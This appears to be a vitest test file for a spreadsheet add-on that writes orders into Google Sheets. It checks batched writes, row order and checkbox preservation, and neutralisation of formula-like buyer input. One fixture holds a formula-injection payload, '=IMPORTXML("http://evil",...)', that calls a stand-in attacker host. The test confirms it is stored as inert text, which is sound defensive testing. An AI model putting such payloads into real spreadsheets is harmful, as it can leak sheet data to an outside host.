import { afterEach, describe, expect, it } from 'vitest';
import { refreshSheets } from '../../../addon/sheets/refresh';
import { a1Range } from '../../../shared/sheets/a1';
import { columnPosition, headerRowOf, totalColumnsOf } from '../../../shared/sheets/layout';
import { LAYOUTS, ordersLayout } from '../../../shared/sheets/layouts';
import { installGas, type GasEnvironment } from '../../support/gas';
import { FixtureSource, makeOrder, makeOrders, populatedSource } from '../../shared/sheets/fixtures';
import { cellOf, rowsByKey, setValuesOn, writes } from './harness';

let gas: GasEnvironment;
afterEach(() => gas.uninstall());

describe('full refresh', () => {
  it('writes 10,000 orders with one setValues per sheet', () => {
    gas = installGas();
    const source = populatedSource(10_000);
    const first = refreshSheets(source);
    expect(first.ok).toBe(true);
    expect(first.mode).toBe('full');
    const sheet = gas.spreadsheet!.sheet('주문');
    expect(sheet.getLastRow()).toBe(10_001);
    // The first refresh also sets the sheets up (one header write each); the data is one write per sheet.
    for (const layout of Object.values(LAYOUTS)) {
      const header = a1Range(headerRowOf(layout), 1, 1, totalColumnsOf(layout));
      expect(setValuesOn(gas, layout.sheetName).filter((call) => call.range !== header), layout.id).toHaveLength(1);
    }

    gas.calls.reset();
    const again = refreshSheets(source, { full: true });
    expect(again.sheets.find((result) => result.layout === 'orders')).toEqual({ layout: 'orders', mode: 'full', updated: 10_000, appended: 0, removed: 0 });
    for (const layout of Object.values(LAYOUTS)) {
      expect(setValuesOn(gas, layout.sheetName), layout.id).toHaveLength(1);
      expect(writes(gas, layout.sheetName).length, layout.id).toBeLessThanOrEqual(layout.id === 'alerts' ? 2 : 1);
    }
  });

  it('keeps identifiers as text, dates as KST strings and formula-like buyer text inert', () => {
    gas = installGas();
    const source = new FixtureSource();
    const tricky = makeOrder(1, {
      receiver: { name: '=IMPORTXML("http://evil","//a")', phone: '010-0000-1234', zip: '01234', address1: '+서울', address2: '@B동' },
      message: '-문 앞',
      tracking: { status: 'pending', carrier: 'hanjin', trackingNumber: '012345678902' },
      orderedAt: '2024-05-01T15:30:00Z',
    });
    source.putOrders([tricky, makeOrder(2)]);
    refreshSheets(source);
    const sheet = gas.spreadsheet!.sheet('주문');
    const cell = (id: string) => cellOf(sheet, ordersLayout, tricky.key, id);
    expect([cell('orderId'), cell('zip'), cell('phone'), cell('trackingNumber')]).toEqual(['02024050100001', '01234', '010-0000-1234', '012345678902']);
    expect(cell('orderedAt')).toBe('2024-05-02 00:30');
    expect(cell('receiver')).toBe('\'=IMPORTXML("http://evil","//a")');
    expect([cell('address'), cell('message')]).toEqual(["'+서울 @B동", "'-문 앞"]);
    expect(sheet.getRange('A1:W3').getFormulas().flat().every((formula) => formula === '')).toBe(true);

    // Even where someone cleared the plain-text format, the neutralised text is stored as text, not a formula.
    const receiverColumn = columnPosition(ordersLayout, 'receiver');
    sheet.getRange(2, receiverColumn, 999, 1).setNumberFormat('0.###############');
    refreshSheets(source, { full: true });
    const row = rowsByKey(sheet, ordersLayout).get(tricky.key)!;
    expect(sheet.getRange(row, receiverColumn).getFormula()).toBe('');
    expect(sheet.getRange(row, receiverColumn).getValue()).toBe('=IMPORTXML("http://evil","//a")');
  });

  it('keeps the order people sorted rows in, their ticks with their orders, and drops orders that are gone', () => {
    gas = installGas();
    const source = new FixtureSource();
    source.putOrders(makeOrders(5));
    refreshSheets(source);
    const sheet = gas.spreadsheet!.sheet('주문');
    sheet.sort(columnPosition(ordersLayout, 'orderId'), false);
    const keysBefore = sheet.snapshot().slice(1).map((cells) => cells[1]);
    expect(keysBefore[0]).toBe(makeOrder(4).key);
    sheet.getRange('A3').check();
    const ticked = keysBefore[1];
    source.removeOrder(makeOrder(4).key);
    source.putOrders([makeOrder(9)]);
    const result = refreshSheets(source, { full: true });
    expect(result.sheets.find((entry) => entry.layout === 'orders')).toMatchObject({ updated: 4, appended: 1, removed: 1 });
    const rows = sheet.snapshot().slice(1);
    expect(rows.map((cells) => cells[1])).toEqual([...keysBefore.slice(1), makeOrder(9).key]);
    expect(rows.map((cells) => cells[0])).toEqual([true, false, false, false, false]);
    expect(rows[0]?.[1]).toBe(ticked);
    expect(sheet.getLastRow()).toBe(6);
  });
});
